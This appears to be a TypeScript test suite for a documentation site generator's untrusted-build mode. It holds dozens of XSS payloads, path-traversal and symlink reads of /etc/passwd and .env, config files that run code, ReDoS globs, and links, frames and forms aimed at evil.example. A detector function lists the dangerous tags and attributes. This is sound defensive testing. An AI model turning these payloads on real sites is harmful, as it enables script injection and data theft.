import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { BuildResult } from '@quire/engine'
import { describe, expect, test } from 'vitest'
import { buildSite, runDocs } from '../support/build.js'
import { attribute, elementsOf, parseHtml } from '../support/html.js'
import { serveSite, untilFollowed } from '../support/serve.js'
import { type FileTexts, linkPackages, makeSite, temporaryFolder, writeFiles } from '../support/sites.js'
import { readTree } from '../support/trees.js'

/** Text in files that no page may show. */
const secret = 'SECRET-8d1f'

async function buildUntrusted(
  files: FileTexts,
  options: Parameters<typeof buildSite>[1] = {},
  prepare: (site: string) => void = () => {},
): Promise<BuildResult & { readonly site: string }> {
  const outer = temporaryFolder()
  writeFiles(outer, { 'outside/secret.md': `# ${secret}\n`, 'outside/secret.png': secret })
  const site = makeSite({ 'content/README.md': '# Home\n', '.env': secret, ...files }, join(outer, 'site'))
  prepare(site)
  const result = await buildSite(site, {
    untrusted: true,
    out: join(outer, 'out'),
    allowErrors: true,
    ...options,
  })
  return { ...result, site }
}

const allText = (outDir: string) =>
  [...readTree(outDir)].map(([path, bytes]) => `${path}\n${bytes.toString('latin1')}`).join('\n')

/** Parts of a document that could run, or send its reader or their input elsewhere. */
function dangersIn(html: string): string[] {
  return [...elementsOf(parseHtml(html))].flatMap((element) => {
    const { tagName, attrs } = element
    const own = tagName === 'script' && /^\/(?:[\w-]+\/)*assets\/js\//.test(attribute(element, 'src') ?? '')
    const isData = attribute(element, 'type') === 'application/ld+json'
    const tags =
      ['iframe', 'object', 'embed', 'form', 'base', 'frame', 'math', 'style', 'template', 'portal'].includes(
        tagName,
      ) ||
      (tagName === 'script' && !own && !isData) ||
      attribute(element, 'http-equiv') !== undefined ||
      /^(?:google-site-verification|go-import|referrer)$/.test(attribute(element, 'name') ?? '')
        ? [`<${tagName}>`]
        : []
    const attributes = attrs
      .filter(
        ({ name, value }) =>
          !(tagName === 'meta' && name === 'content') &&
          (/^on/.test(name) ||
            ['style', 'srcdoc', 'formaction', 'ping', 'xlink:href'].includes(name) ||
            (name === 'name' && !/^(?:tabs-\d+|[a-z:_-]+)$/.test(value)) ||
            // A description may say so; no browser follows it.
            // Browsers overlook spaces and control characters at the beginning.
            /^[^!-\uFFFF]*(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|vbscript|data|file)\s*:/i.test(value) ||
            (name === 'srcset' && value.includes('file:')) ||
            (name === 'href' && /^(?:[a-z]+-[a-z]+|about|steam):/i.test(value))),
      )
      .map(({ name, value }) => `${tagName} ${name}=${value}`)
    return [...tags, ...attributes]
  })
}

/** Attacks in the text of a page. `kept` must still be there, because pages are cleaned, not dropped. */
const inPages: readonly (readonly [name: string, text: string])[] = [
  ['a script', '<script>alert(1)</script> kept'],
  ['a script in a paragraph', 'kept <script src="https://evil.example/x.js"></script>'],
  ['a script in capitals with a line break', 'kept\n\n<ScRiPt\n>alert(1)</sCrIpT\n>'],
  ['a script that is not closed', 'kept\n\n<script>alert(1)'],
  ['a script in SVG', 'kept <svg><script>alert(1)</script></svg>'],
  ['a script in MathML', 'kept <math><mtext><script>alert(1)</script></mtext></math>'],
  [
    'mutating namespaces',
    'kept\n\n<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a handler', '<img src="x.png" onerror="alert(1)"> kept'],
  ['a handler without quotes', '<img src=x onerror=alert(1)> kept'],
  ['a handler after a slash', '<img/src=x/onerror=alert(1)> kept'],
  ['a handler on a link', '<a href="#x" onclick="alert(1)">kept</a>'],
  ['a handler on details', '<details open ontoggle=alert(1)>kept</details>'],
  ['a link that runs', '[kept](javascript:alert(1))'],
  ['a link that runs, encoded', '[kept](&#106;avascript:alert(1))'],
  ['a link that runs, with a tab', '<a href="java&#9;script:alert(1)">kept</a>'],
  ['a link that runs, after a control character', '<a href="&#1;javascript:alert(1)">kept</a>'],
  ['a link that runs, in a definition', '[kept][x]\n\n[x]: javascript:alert(1)'],
  ['a link that runs, in angle brackets', '<javascript:alert(1)> kept'],
  ['a link with VBScript', '[kept](vbscript:msgbox(1))'],
  ['a link with data', '[kept](data:text/html,<script>alert(1)</script>)'],
  ['a picture of data', '![kept](data:image/svg+xml,<svg/onload=alert(1)>) kept'],
  ['a set of pictures of data', '<img srcset="data:image/svg+xml,x 1x"> kept'],
  ['a set of pictures, of which one is a file', '<img srcset="x.png 1x, file:///etc/passwd 2x"> kept'],
  ['a link to a file', '[kept](file:///etc/passwd)'],
  ['a frame', '<iframe src="https://evil.example"></iframe> kept'],
  ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe> kept'],
  ['an object', '<object data="x.swf"></object><embed src="x.swf"> kept'],
  [
    'a form',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">kept</button></form>',
  ],
  ['an address for all links', 'kept <base href="https://evil.example/">'],
  ['a refresh', 'kept <meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a style sheet', 'kept <link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a style element', 'kept\n\n<style>body { background: url(https://evil.example) }</style>'],
  ['a style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example)">kept</p>'],
  ['a template', '<template><script>alert(1)</script></template> kept'],
  ['a name that scripts would find', '<img name="cookie" src="x.png"><a name="docsChunks">kept</a>'],
  [
    'properties of a component',
    '<Badge text="kept" onClick={"alert(1)"} dangerouslySetInnerHTML={{"__html":"<img src=x onerror=alert(1)>"}} />',
  ],
  [
    'an address of a component',
    '<Link to={{"text":"kept","href":"javascript:alert(1)","external":false}} /> kept',
  ],
  ['an address of a card that opens a program', '<Card title="kept" href="search-ms:query=x">kept</Card>'],
  ['markup in a title', '::: tip <img src=x onerror=alert(1)>\nkept\n:::'],
  [
    'a diagram with markup',
    'kept\n\n```mermaid\ngraph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n```',
  ],
  ['the language of code', '```"><script>alert(1)</script>\nkept\n```'],
  ['the title of code', '```js ["><img src=x onerror=alert(1)>]\nkept\n```'],
  ['a heading', '## <img src=x onerror=alert(1)> kept'],
  ['the id of a heading', '## kept {#"><script>alert(1)</script>}'],
  ['an interpolation', '{{ $page.frontmatter.html }} {{ $site.constructor.constructor }} kept'],
  ['a footnote', 'kept[^1]\n\n[^1]: <img src=x onerror=alert(1)>'],
  ['a table', '| kept |\n| --- |\n| <img src=x onerror=alert(1)> |'],
  [
    'the mark of what Quire makes itself',
    'kept\n\n[[toc]]\n\n## A\n\n<script data-quire-node="0">alert(1)</script>\n<iframe data-quire-node="0" src="https://evil.example"></iframe>\n<div data-quire-node=1/onclick=alert(1)></div>\n\n<select>',
  ],
  ['a comment that opens', 'kept <!--><script>alert(1)</script>-->'],
]

describe('an attempt of a stranger in a page', () => {
  test.each(inPages)('%s comes to nothing', async (_, text) => {
    const page = `---\nhtml: "<script>alert(1)</script>"\n---\n\n# Page\n\n${text}\n`
    const { outDir } = await buildUntrusted({ 'content/page.md': page })
    const html = readFileSync(join(outDir, 'page.html'), 'utf8')
    expect(dangersIn(html)).toEqual([])
    expect(html).toContain('kept')
    const chunks = [...readTree(outDir)].filter(([path]) => path.startsWith('assets/js/v-'))
    expect(chunks.length).toBeGreaterThan(1)
    for (const [path, bytes] of chunks) {
      const queue: [string, { regions: Record<string, string> }][] = []
      new Function('self', String(bytes))({ docsChunks: queue })
      const regions = Object.values(queue[0]?.[1].regions ?? {}).join('')
      expect(regions).not.toBe('')
      expect(dangersIn(regions), path).toEqual([])
    }
  })

  test('the check finds each of them where content is trusted, or the page has its own guard', async () => {
    const found = dangersIn(
      '<script>1</script><img onerror=x><a href=" javascript:x">a</a><iframe></iframe><form></form><p style=x></p><base><meta http-equiv=refresh>',
    )
    expect(found).toHaveLength(8)
  })
})

/** Attacks in frontmatter. */
const inFrontmatter: readonly (readonly [name: string, frontmatter: string])[] = [
  ['a refresh', 'meta:\n  - http-equiv: refresh\n    content: 0;url=https://evil.example'],
  ['a proof of owning the site', 'meta: [{ name: google-site-verification, content: abc }]'],
  ['a source of code', 'meta: [{ name: go-import, content: "docs.example git https://evil.example/x" }]'],
  ['a policy', 'meta: [{ name: referrer, content: unsafe-url }]'],
  ['a script in the head', 'head: [[script, { src: "https://evil.example/x.js" }]]'],
  ['a style sheet in the head', 'head: [{ tag: link, attrs: { rel: stylesheet, href: /x.css } }]'],
  ['a refresh in the head', 'head: [[meta, { http-equiv: refresh, content: "0;url=https://evil.example" }]]'],
  ['a home action that runs', 'home: true\nactionText: Go\nactionLink: "javascript:alert(1)"'],
  [
    'one of several home actions that opens a program',
    'home: true\nactions: [{ text: Go, link: "steam://run" }]',
  ],
  [
    'a feature of a home that runs',
    'home: true\nfeatures:\n  - title: A\n    details: B\n    link: "javascript:alert(1)"',
  ],
  ['a neighbour that runs', 'next:\n  text: Next\n  link: "javascript:alert(1)"'],
  ['a neighbour that opens a program', 'next:\n  text: Next\n  link: "ms-word:ofe|u|https://evil.example"'],
  ['a neighbour that is a document', 'prev:\n  text: Previous\n  link: "about:blank"'],
  ['a home action that opens a program', 'home: true\nactionText: Go\nactionLink: "steam://run"'],
  ['an edit link that runs', 'editUrl: "javascript:alert(1)"'],
  ['a canonical address that runs', 'canonicalUrl: "javascript:alert(1)"'],
  ['a hero of data', 'home: true\nheroImage: "data:image/svg+xml,<svg/onload=alert(1)>"'],
  [
    'a hero of data in the dark',
    'home: true\nheroImage: /a.svg\nheroImageDark: "data:image/svg+xml,<svg/onload=alert(1)>"',
  ],
  [
    'icons of data',
    'home: true\nfeatures:\n  - { title: A, details: B, icon: "data:image/svg+xml,<svg/onload=alert(1)>#.svg" }\n  - { title: C, details: D, icon: { src: /a.svg, dark: "javascript:alert(1)//.svg" } }',
  ],
  ['a title with markup', 'title: "</title><script>alert(1)</script>"'],
  ['a description with markup', 'description: "\\"><script>alert(1)</script>"'],
  ['a language with markup', 'lang: "\\"><script>alert(1)</script>"'],
  ['classes of the theme', 'pageClass: "search-dialog x\\" onload=alert(1)"'],
  ['code in YAML', 'x: !!js/function "function () { throw 1 }"'],
  ['an address out of the site', 'permalink: /../../escaped.html'],
  ['a layout that is none', 'layout: ../../../etc/passwd'],
]

describe('an attempt of a stranger in frontmatter', () => {
  test.each(inFrontmatter)('%s comes to nothing', async (_, frontmatter) => {
    const { outDir } = await buildUntrusted({
      'content/page.md': `---\n${frontmatter}\n---\n\n# Page\n\nText\n`,
    })
    const pages = [...readTree(outDir)].filter(([path]) => path.endsWith('.html'))
    expect(pages.length).toBeGreaterThan(1)
    for (const [path, html] of pages) expect(dangersIn(String(html)), path).toEqual([])
    expect(existsSync(join(outDir, '../escaped.html'))).toBe(false)
    expect(allText(outDir)).not.toContain('search-dialog x')
  })

  test('JavaScript as frontmatter does not run', async () => {
    const { outDir } = await buildUntrusted({
      'content/page.md': `---js\n{ title: globalThis.process.exit(9) }\n---\n\n# Page\n`,
    })
    expect(existsSync(join(outDir, 'index.html'))).toBe(true)
  })
})

/** Attempts to read what is not content. */
const reads: readonly (readonly [name: string, files: FileTexts, prepare?: (site: string) => void])[] = [
  ['an include outside of the site', { 'content/page.md': '<!--@include: ../../outside/secret.md-->\n' }],
  ['an include of the site, but not of its content', { 'content/page.md': '<!--@include: ../.env-->\n' }],
  ['a snippet from the root', { 'content/page.md': '<<< @/.env\n' }],
  [
    'a snippet of the config',
    {
      'content/page.md': '<<< @/docs.config.json\n',
      'docs.config.json': `{ "title": "T", "description": "x", "themeConfig": { "footerCopyright": "x" }, "nav": [] }\n`,
    },
  ],
  ['a snippet outside of the site', { 'content/page.md': '<<< @/../outside/secret.md\n' }],
  ['an absolute path', { 'content/page.md': '<<< /etc/hostname\n' }],
  [
    'an encoded path',
    { 'content/page.md': '![](..%2f..%2foutside%2fsecret.png) [x](%2e%2e/%2e%2e/outside/secret.png)\n' },
  ],
  ['a picture outside of the site', { 'content/page.md': '![](../../outside/secret.png)\n' }],
  [
    'a link to a file that is not content',
    { 'content/page.md': '[x](../.env) [y](../private/key.txt)\n', 'private/key.txt': secret },
  ],
  [
    'a page that is a link',
    {},
    (site) => symlinkSync('../../outside/secret.md', join(site, 'content/page.md')),
  ],
  [
    'a page that is a link inside of the site',
    {},
    (site) => symlinkSync('../.env', join(site, 'content/page.md')),
  ],
  ['a folder that is a link', {}, (site) => symlinkSync('../../outside', join(site, 'content/folder'))],
  [
    'a picture that is a link',
    { 'content/page.md': '![](./pic.png)\n' },
    (site) => symlinkSync('../../outside/secret.png', join(site, 'content/pic.png')),
  ],
  [
    'a public file that is a link',
    { 'public/x.txt': '' },
    (site) => symlinkSync('../../outside/secret.md', join(site, 'public/leak.txt')),
  ],
  ['a public folder that is a link', {}, (site) => symlinkSync('../outside', join(site, 'public'))],
  [
    'a snippet through a link',
    { 'content/page.md': '<<< ./link.txt\n' },
    (site) => symlinkSync('../../outside/secret.md', join(site, 'content/link.txt')),
  ],
  [
    'an include through a folder that is a link',
    { 'content/page.md': '<!--@include: ./folder/secret.md-->\n' },
    (site) => symlinkSync('../../outside', join(site, 'content/folder')),
  ],
  ['a dot file in the content', { 'content/page.md': '<<< ./.env\n', 'content/.env': secret }],
  [
    'packages in the content',
    { 'content/page.md': '<<< ./node_modules/x/key.txt\n', 'content/node_modules/x/key.txt': secret },
  ],
]

describe('an attempt of a stranger to read', () => {
  test.each(reads.map(([name, files, prepare = () => {}]) => [name, files, prepare] as const))(
    '%s reads nothing',
    async (_, files, prepare) => {
      const { outDir } = await buildUntrusted(files, {}, prepare)
      expect(existsSync(join(outDir, 'index.html'))).toBe(true)
      const text = allText(outDir)
      expect(text).not.toContain(secret)
      expect(text).not.toContain('footerCopyright')
    },
  )
})

/** Public files and files that pages show, with whether they are published. */
const published: readonly (readonly [name: string, content: string, isPublished: boolean])[] = [
  ['picture.png', 'x', true],
  ['font.woff2', 'x', true],
  ['data.json', '{}', true],
  ['data.tar.gz', 'x', true],
  ['page.html.gz', 'x', false],
  ['vercel.json', '{}', false],
  ['package.json', '{}', false],
  ['_config.yml', '', false],
  ['staticwebapp.config.json', '{}', false],
  ['_routes.json', '{}', false],
  ['Netlify.toml', '', false],
  [
    'plain.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z" fill="#0a5"/></svg>',
    true,
  ],
  ['script.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', false],
  [
    'prefixed.svg',
    '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>',
    false,
  ],
  [
    'far-prefixed.svg',
    '<é:svg xmlns:é="http://www.w3.org/2000/svg"><é:script>alert(1)</é:script></é:svg>',
    false,
  ],
  [
    'encoded.svg',
    '<?xml version="1.0" encoding="ISO-2022-JP"?><svg xmlns="http://www.w3.org/2000/svg"><s\u001b(Bcript>alert(1)</s\u001b(Bcript></svg>',
    false,
  ],
  ['declared.svg', '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg"/>', true],
  [
    'form.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><h:form xmlns:h="http://www.w3.org/1999/xhtml" action="https://evil.example"/></svg>',
    false,
  ],
  ['handler.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', false],
  ['foreign.svg', '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>', false],
  ['entity.svg', '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', false],
  [
    'link.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="java&#115;cript:alert(1)"><path/></a></svg>',
    false,
  ],
  ['utf16.svg', '\u0000<\u0000s\u0000v\u0000g', false],
  ['page.html', '<script>alert(1)</script>', false],
  ['page.xhtml', '<script>alert(1)</script>', false],
  ['page.xml', '<x/>', false],
  ['script.js', 'alert(1)', false],
  ['module.mjs', 'alert(1)', false],
  ['style.css', 'x', false],
  ['program.wasm', 'x', false],
  ['_headers', 'x', false],
  ['_redirects', 'x', false],
  ['.htaccess', 'x', false],
  ['CNAME', 'evil.example', false],
  ['web.config', 'x', false],
  ['page.html.', 'x', false],
]

describe("a stranger's file", () => {
  test.each(published)('%s', async (name, content, isPublished) => {
    const { outDir } = await buildUntrusted({
      [`public/${name}`]: content,
      [`content/${name}`]: content,
      'content/page.md': `[file](./${name}) ![](./${name})\n`,
    })
    const paths = [...readTree(outDir).keys()].filter(
      (path) => !/^assets\/(?!img)|^(?:index|404)\.|^page\.(?:html|md)$/.test(path),
    )
    const base = name.replace(/\.[^.]*$/, '')
    expect(
      paths.some((path) => path.includes(name) || (path.startsWith('assets/') && path.includes(base))),
    ).toBe(isPublished)
  })
})

describe('a config of a stranger', () => {
  const trap = (site: string) =>
    `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(join(site, 'sprung'))}, '')\nexport default { title: 'T', name: 'x', from: import.meta.url, layouts: { Layout: () => null } }\n`

  test.each(['docs.config.ts', 'docs.config.mjs', 'docs.config.js'])('%s does not run', async (name) => {
    const site = makeSite({ 'content/README.md': '# Home\n', [name]: '' })
    writeFileSync(join(site, name), trap(site))
    const failed = buildSite(site, { untrusted: true, out: join(temporaryFolder(), 'out') })
    await expect(failed).rejects.toThrow('is a program, and this site is not trusted')
    await expect(
      buildSite(site, { untrusted: true, config: join(site, name), out: join(temporaryFolder(), 'out') }),
    ).rejects.toThrow('is a program')
    expect(existsSync(join(site, 'sprung'))).toBe(false)
  })

  test('packages that it brings along do not run, whatever their names', async () => {
    const packages = ['@quire/theme-default', '@quire/engine', 'react', 'react-dom', 'satteri', 'esbuild']
    const { site, outDir } = await buildUntrusted({}, {}, (folder) => {
      for (const name of packages) {
        for (const where of ['', 'content/']) {
          const home = `${where}node_modules/${name}`
          writeFiles(folder, {
            [`${home}/package.json`]: JSON.stringify({
              name,
              version: '9.9.9',
              type: 'module',
              main: 'index.js',
              exports: './index.js',
              quire: { theme: true },
            }),
            [`${home}/index.js`]: trap(folder),
          })
        }
      }
    })
    expect([existsSync(join(site, 'sprung')), existsSync(join(outDir, 'index.html'))]).toEqual([false, true])
  })

  test.each([
    ['a theme', { theme: './theme.js' }, '"theme" names code'],
    ['a theme of a package', { theme: '@quire/theme-default' }, '"theme" names code'],
    ['another root', { root: '..' }, '"root" chooses what is read'],
    ['another output', { outDir: '../../elsewhere' }, '"outDir" chooses what is written'],
    ['a highlighter', { markdown: { highlighter: 'shiki' } }, '"markdown.highlighter" names code'],
    ['a program', { plantuml: { command: ['sh', '-c', 'true'] } }, '"plantuml" names a program'],
    ['an encoder of pictures', { images: {} }, '"images" names code'],
    ['codes of messages', { ignoreMessages: ['html-untrusted'] }, '"ignoreMessages" hides what was removed'],
    ['trust in itself', { trust: 'trusted' }, '"trust" can only be set by whoever builds'],
    ['a script in the head', { head: [['script', { src: 'https://evil.example/x.js' }]] }, '"head[0]"'],
    [
      'a style sheet in the head',
      { head: [['link', { rel: 'stylesheet', href: 'https://evil.example' }]] },
      '"head[0]"',
    ],
    [
      'a proof of owning the site',
      { head: [['meta', { name: 'google-site-verification', content: 'abc' }]] },
      '"head[0]"',
    ],
    ['a refresh in the head', { head: [['meta', { 'http-equiv': 'refresh', content: '0' }]] }, '"head[0]"'],
    ['a navigation that runs', { nav: [{ text: 'x', link: ' javascript:alert(1)' }] }, '"nav[0].link"'],
    ['a sidebar that runs', { sidebar: [['java\nscript:alert(1)', 'x']] }, '"sidebar[0][0]"'],
    [
      'a version that runs',
      { externalVersions: [{ text: 'x', link: 'data:text/html,x' }] },
      '"externalVersions[0].link"',
    ],
    [
      'a glob that takes for ever',
      { content: [{ dir: 'content', exclude: ['a/*.md', `${'*a'.repeat(15)}b`] }] },
      '"content[0].exclude[1]" has more than 4 wildcards',
    ],
    [
      'a glob of fields that takes for ever',
      { frontmatterDefaults: { [`${'{a,a}'.repeat(40)}b`]: {} } },
      '" has more than 4 wildcards',
    ],
    ['a glob with a range', { frontmatterDefaults: { 'a{1..9}': {} } }, '" has more than 4 wildcards'],
    ['a glob with repetitions', { frontmatterDefaults: { '+(a|aa)b': {} } }, '" has more than 4 wildcards'],
    ['a glob with repeated groups', { frontmatterDefaults: { '(a+)+b': {} } }, '" has more than 4 wildcards'],
    [
      'a glob with repeated letters',
      { frontmatterDefaults: { '[a-z]+[a-z]+[a-z]+[a-z]+[a-z]+b': {} } },
      '" has more than 4 wildcards',
    ],
    ['content outside', { content: '../outside' }, 'outside'],
    ['a public folder outside', { publicDir: '../outside' }, 'outside'],
  ])('%s is refused', async (_, own, message) => {
    await expect(
      buildUntrusted({ 'docs.config.json': JSON.stringify({ title: 'T', ...own }) }),
    ).rejects.toThrow(message)
  })

  test('a config that is a link is refused', async () => {
    const outer = temporaryFolder()
    writeFiles(outer, { 'real.json': `{ "title": "${secret}" ` })
    mkdirSync(join(outer, 'site/content'), { recursive: true })
    symlinkSync('../real.json', join(outer, 'site/docs.config.json'))
    const failed = buildSite(join(outer, 'site'), { untrusted: true, out: join(outer, 'out') })
    await expect(failed).rejects.toThrow('not trusted')
    await expect(failed).rejects.not.toThrow(secret)
  })

  test('a cache that it brings along is not read, and none is written', async () => {
    const outer = temporaryFolder()
    const site = makeSite({ 'content/README.md': '# Home\n' }, join(outer, 'site'))
    await buildSite(site, { out: join(outer, 'trusted') })
    writeFiles(site, { '.docs/cache/memo.bin': 'poison', '.docs/cache/values.pack': 'poison' })
    const { diagnostics } = await buildSite(site, { untrusted: true, out: join(outer, 'out') })
    expect(diagnostics).toEqual([])
    expect(readFileSync(join(site, '.docs/cache/memo.bin'), 'utf8')).toBe('poison')
  })

  test('the output stands outside of the site', async () => {
    const site = makeSite({ 'content/README.md': '# Home\n' })
    await expect(buildSite(site, { untrusted: true })).rejects.toThrow('built into a folder outside it')
    symlinkSync(site, join(site, 'link'))
    await expect(buildSite(site, { untrusted: true, out: join(site, 'link/out') })).rejects.toThrow(
      'outside it',
    )
  })
})

describe('a config that is trusted', () => {
  test('may come from another checkout, and counts for the folder that is not', async () => {
    const outer = temporaryFolder()
    const trusted = makeSite(
      {
        'docs.config.mjs': `export default { title: 'Trusted', content: 'pages', nav: [{ text: 'In', link: '/' }] }\n`,
        'pages/README.md': '# Ours\n',
      },
      join(outer, 'trusted'),
    )
    const site = makeSite(
      {
        'docs.config.mjs': 'throw new Error("ran")',
        'pages/README.md': '# Theirs\n\n<script>alert(1)</script>\n',
      },
      join(outer, 'site'),
    )
    const { outDir } = await buildSite(site, {
      untrusted: true,
      config: trusted,
      out: join(outer, 'out'),
      pr: 7,
    })
    const html = readFileSync(join(outDir, 'index.html'), 'utf8')
    expect(html).toContain('<title>Theirs | Trusted</title>')
    expect(dangersIn(html)).toEqual([])
  })

  test('may say that its content is not', async () => {
    const outer = temporaryFolder()
    const site = makeSite(
      {
        'docs.config.mjs': `export default { title: 'T', trust: 'untrusted' }\n`,
        'content/README.md': '# Home\n\n<p onclick="x">kept</p>\n\n<<< @/docs.config.mjs\n',
      },
      join(outer, 'site'),
    )
    const { outDir } = await buildSite(site, { out: join(outer, 'out'), allowErrors: true })
    const html = readFileSync(join(outDir, 'index.html'), 'utf8')
    expect([dangersIn(html), html.includes('kept'), html.includes('trust:')]).toEqual([[], true, false])
  })
})

test('redirects of a stranger outside of the content are not read, which is said', async () => {
  const redirectsOf = async (file: string) => {
    const { diagnostics, outDir } = await buildUntrusted({
      'docs.config.json': JSON.stringify({ title: 'T', redirects: file }),
      'redirects.txt': '/old.html /\n',
      'content/redirects.txt': '/old.html /\n',
    })
    return [diagnostics.map(({ message }) => message), existsSync(join(outDir, 'old.html'))]
  }
  expect(await redirectsOf('redirects.txt')).toEqual([
    ['"redirects" names the file "redirects.txt", which is not read, because the content is not trusted.'],
    false,
  ])
  expect(await redirectsOf('content/redirects.txt')).toEqual([[], true])
})

test('what is harmless stays as it is', async () => {
  const text = `---
title: "Data: an overview"
next:
  text: "File: a list"
  link: https://example.org/
---

# Page

Some *text* with \`code\`, <kbd>Ctrl</kbd>, <sub>low</sub> and <a id="here"></a>[here](#here).

::: tip Title
Box
:::

::: details More
Hidden
:::

:::: tabs
== One
1
== Two
2
::::

- [x] done

| a | b |
| :-- | --: |
| 1 | 2 |

\`\`\`js{1} [file.js]
const a = 1
\`\`\`

\`\`\`mermaid
graph TD
  A --> B
\`\`\`

<details open><summary>S</summary>D</details>

<Badge text="new" type="tip" />

Note[^1].

[^1]: The note.

![pic](./pic.png){ }

[[toc]]

## End {#own-id}
`
  const files = { 'content/page.md': text, 'content/pic.png': 'x' }
  const outer = temporaryFolder()
  const site = makeSite(files, join(outer, 'site'))
  const trusted = await buildSite(site, { out: join(outer, 'trusted'), allowErrors: true })
  const untrusted = await buildSite(site, {
    untrusted: true,
    out: join(outer, 'untrusted'),
    allowErrors: true,
  })
  const page = ({ outDir }: BuildResult) => readFileSync(join(outDir, 'page.html'), 'utf8')
  expect(page(untrusted)).toBe(page(trusted))
  expect(untrusted.diagnostics).toEqual(trusted.diagnostics)
})

test('the command takes both', async () => {
  const outer = temporaryFolder()
  const site = makeSite(
    { 'content/README.md': '# Home\n\n<iframe src="https://x.example"></iframe>\n' },
    join(outer, 'site'),
  )
  linkPackages(site)
  const { status, stderr } = await runDocs([
    'build',
    site,
    '--untrusted',
    '--pr',
    '3',
    '--out',
    join(outer, 'out'),
  ])
  expect([status, stderr]).toEqual([0, expect.stringContaining('<iframe> was removed')])
})

test('the dev server judges a drawing again when it changes', async () => {
  const drawing = (content: string) => `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`
  const site = makeSite(
    {
      'docs.config.json': '{ "title": "T", "trust": "untrusted", "outDir": "../out" }',
      'content/README.md': '# Home\n',
      'public/a.svg': drawing(''),
    },
    join(temporaryFolder(), 'site'),
  )
  const server = await serveSite(site)
  const status = async () => (await fetch(`${server.origin}/a.svg`)).status
  expect(await status()).toBe(200)
  await untilFollowed(site, server)
  writeFiles(site, { 'public/a.svg': drawing('<script>alert(1)</script>') })
  await expect.poll(status).toBe(404)
  writeFiles(site, { 'public/a.svg': drawing('<path/>') })
  await expect.poll(status).toBe(200)
})
